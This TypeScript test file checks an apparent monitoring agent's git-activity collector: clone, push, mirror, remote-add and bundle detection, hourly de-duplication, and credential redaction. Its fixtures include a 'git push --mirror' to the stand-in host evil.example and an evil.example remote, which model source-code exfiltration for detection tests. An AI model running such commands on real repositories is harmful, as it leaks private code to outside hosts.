import assert from 'node:assert/strict'
import type { Collector } from '../../../../agent/collect.ts'
import { repositories } from '../../../../agent/collectors/shared/repositories.ts'
import type { Observation } from '../../../../wire/event.ts'
import type { Policy } from '../../../../wire/messages.ts'
import { DAY, HOUR } from '../../../../wire/time.ts'
import { deniedFolder, type FakeHost, fakeHost, policy, put, watchPolls } from '../../fake-host.ts'

const SOURCE: Policy = { ...policy, watchedRoots: [{ path: '/home/ann/src', kind: 'source' }] }
const ORIGIN = (url: string) => `[remote "origin"]\n\turl = ${url}\n`
const CLONED = `${'0'.repeat(40)} ${'a'.repeat(40)} Ann <ann@example.com> 1 +0000\tclone: from x\n`
const reported = (polls: Observation[][]) =>
  polls.map((poll) =>
    poll.map((it) =>
      it.category === 'repository'
        ? `${it.Action} ${it.Host} ${it.Namespace} ${it.Bytes}`
        : it.category === 'collection_gap'
          ? `gap ${it.About} ${it.Reason}`
          : it.category,
    ),
  )
/** The number of polls between two sweeps. */
const MINUTE = Array.from({ length: 12 }, () => () => {})

function repository(host: FakeHost, at: string, url: string, more: { log?: string; pack?: number } = {}): void {
  put(host.tree, `${at}/.git/HEAD`, 'ref: refs/heads/main\n')
  put(host.tree, `${at}/.git/config`, ORIGIN(url))
  if (more.log) put(host.tree, `${at}/.git/logs/HEAD`, more.log)
  if (more.pack) put(host.tree, `${at}/.git/objects/pack/pack-1.pack`, { data: '', size: more.pack })
}
const running = (host: FakeHost, pid: number) => put(host.tree, `/proc/${pid}/stat`, 'x')
const ended = (host: FakeHost, pid: number) => put(host.tree, `/proc/${pid}`, undefined)
function begin(
  watched: ReturnType<typeof repositories>,
  pid: number,
  line: string,
  folder: string | null = '/home/ann',
) {
  watched.onProgram({ pid, image: '/usr/bin/git', args: line.split(' '), folder })
}

describe('agent/collectors/shared/repositories', () => {
  it('reports a clone with its size when it has ended, but not a failed one', async () => {
    const host = fakeHost({})
    const watched = repositories()
    const polls = await watchPolls(watched.collector, host, [
      () => {
        running(host, 7)
        running(host, 8)
        begin(watched, 7, 'git clone https://ann:pw@github.com/acme/api.git')
        begin(watched, 8, 'git clone https://github.com/acme/gone.git')
      },
      () => ended(host, 8),
      () => {
        repository(host, '/home/ann/api', 'x', { pack: 5_000 })
        ended(host, 7)
      },
    ])
    assert.deepEqual(reported(polls), [[], [], [], ['clone github.com acme 5000']])
    assert.doesNotMatch(JSON.stringify(polls), /pw|api/)
  })

  it('a clock that is ahead for a moment does not end a clone', async () => {
    const host = fakeHost({})
    const watched = repositories()
    const polls = await watchPolls(watched.collector, host, [
      () => {
        running(host, 7)
        begin(watched, 7, 'git clone https://github.com/acme/api.git')
      },
      () => {
        repository(host, '/home/ann/api', 'x', { pack: 1_000 })
        host.setClock(15 * DAY)
      },
      () => host.setClock(-15 * DAY),
      () => {
        repository(host, '/home/ann/api', 'x', { pack: 5_000 })
        ended(host, 7)
      },
    ])
    assert.deepEqual(reported(polls), [[], [], [], [], ['clone github.com acme 5000']])
  })

  it('counts commands, folders and remotes beyond its limits', async () => {
    const host = fakeHost({ '/etc/passwd': 'ann:x:1000:1000::/home/ann:/bin/sh\n' })
    for (let n = 0; n < 5_010; n++) put(host.tree, `/home/ann/src/f${n}/x`, '')
    const watched = repositories()
    for (let n = 0; n < 300; n++) begin(watched, n, `git push https://github.com/acme/r${n}.git`)
    const [first] = await watchPolls(watched.collector, host, [], SOURCE)
    const gaps = first!.flatMap((it) => (it.category === 'collection_gap' ? [`${it.About} ${it.Count}`] : []))
    assert.deepEqual(gaps, ['repository 44', 'source roots 11'])
    assert.equal(first!.length, 256 + 2)

    const other = fakeHost({ '/etc/passwd': 'ann:x:1000:1000::/home/ann:/bin/sh\n', '/home/ann/src/x': '' })
    const polls = await watchPolls(
      repositories().collector,
      other,
      [
        ...MINUTE,
        () => {
          put(other.tree, '/home/ann/src/api/.git/HEAD', 'ref: x\n')
          const remotes = Array.from({ length: 70 }, (_, n) => `[remote "r${n}"]\n\turl = https://h${n}.example/a/b\n`)
          put(other.tree, '/home/ann/src/api/.git/config', remotes.join(''))
        },
        ...MINUTE,
        ...MINUTE,
      ],
      SOURCE,
    )
    const actions = reported(polls).flat()
    assert.deepEqual(
      [actions.filter((it) => it.startsWith('remote_added')).length, actions.at(-1)],
      [64, 'gap remotes of one repository overflow'],
    )
  })

  it('finds the target of a push in the config', async () => {
    const host = fakeHost({})
    repository(host, '/home/ann/api', 'git@github.com:acme/api.git')
    const watched = repositories()
    const polls = await watchPolls(watched.collector, host, [
      () => begin(watched, 7, 'git push', '/home/ann/api/src/deep'),
      () => begin(watched, 7, 'git push nobody', '/home/ann/api'),
      () => begin(watched, 7, 'git push --mirror https://evil.example/me/x.git', null),
      () => begin(watched, 7, 'git remote add mine gitlab.com:me/x', '/home/ann/api'),
      () => begin(watched, 7, 'git bundle create x --all', '/home/ann/api'),
      () => begin(watched, 7, 'git push', null),
    ])
    assert.deepEqual(reported(polls).slice(1), [
      ['push github.com acme null'],
      ['push null null null'],
      ['mirror evil.example me null'],
      ['remote_added gitlab.com me null'],
      ['bundle null null null'],
      ['push null null null'],
    ])
  })

  it('reports the same action once an hour', async () => {
    const host = fakeHost({})
    const watched = repositories()
    const push = () => begin(watched, 7, 'git push https://h/a/b', null)
    const hour = () => {
      host.clock += HOUR
      push()
    }
    assert.deepEqual(reported(await watchPolls(watched.collector, host, [push, push, hour])), [
      [],
      ['push h a null'],
      [],
      ['push h a null'],
    ])
  })

  it('source roots: a baseline first, then clones, and new and changed remotes', async () => {
    const host = fakeHost({})
    repository(host, '/home/ann/src/old', 'git@github.com:acme/old.git')
    const polls = await watchPolls(
      repositories().collector,
      host,
      [
        ...MINUTE.slice(1),
        () => {
          repository(host, '/home/ann/src/team/new', 'git@github.com:acme/new.git', { log: CLONED, pack: 9 })
          repository(host, '/home/ann/src/mine', 'git@github.com:me/mine.git')
          put(host.tree, '/home/ann/src/half/.git/objects/pack/tmp_pack_x', '')
          repository(host, '/home/ann/src/half', 'git@github.com:acme/half.git', { log: CLONED })
        },
        ...MINUTE.slice(1),
        () => {
          put(
            host.tree,
            '/home/ann/src/old/.git/config',
            `${ORIGIN('git@github.com:acme/old.git')}[remote "x"]\nurl = https://evil.example/me/old\n`,
          )
          put(host.tree, '/home/ann/src/half/.git/objects/pack/tmp_pack_x', undefined)
        },
      ],
      SOURCE,
    )
    const actions = reported(polls)
    assert.deepEqual(actions[0], [])
    assert.deepEqual(actions[12], ['clone github.com acme 9'])
    // Without a log it may be an unfinished clone, so it is reported after another sweep.
    assert.deepEqual(actions[24]?.toSorted(), [
      'clone github.com acme 0',
      'remote_added evil.example me null',
      'remote_added github.com me null',
    ])
    assert.equal(actions.flat().length, 4)
  })

  it('reports what came while the agent was stopped, and nothing after a restart alone', async () => {
    const host = fakeHost({})
    repository(host, '/home/ann/src/old', 'git@github.com:acme/old.git')
    const first = await watchPolls(repositories().collector, host, [], SOURCE)
    const again = await watchPolls(repositories().collector, host, [], SOURCE)
    repository(host, '/home/ann/src/new', 'git@github.com:acme/new.git', { log: CLONED })
    const away = await watchPolls(repositories().collector, host, [], SOURCE)
    assert.deepEqual(
      [first, again, away].map((it) => reported(it).flat()),
      [[], [], ['clone github.com acme null']],
    )
  })

  it('reports a clone once that is seen as a process and in its folder', async () => {
    const host = fakeHost({ '/home/ann/src/x': '' })
    const watched = repositories()
    const polls = await watchPolls(
      watched.collector,
      host,
      [
        () => {
          begin(watched, 7, 'git clone https://github.com/acme/api', '/home/ann/src')
          repository(host, '/home/ann/src/api', 'https://github.com/acme/api', { log: CLONED, pack: 3 })
        },
        ...MINUTE,
      ],
      SOURCE,
    )
    assert.deepEqual(reported(polls).flat(), ['clone github.com acme 3'])
  })

  it('reports what it cannot read', async () => {
    const blind: Collector = repositories().collector
    assert.deepEqual(reported(await watchPolls(blind, fakeHost({ '/home/ann/src': deniedFolder }), [], SOURCE)), [
      ['gap /home/ann/src denied'],
    ])
  })
})
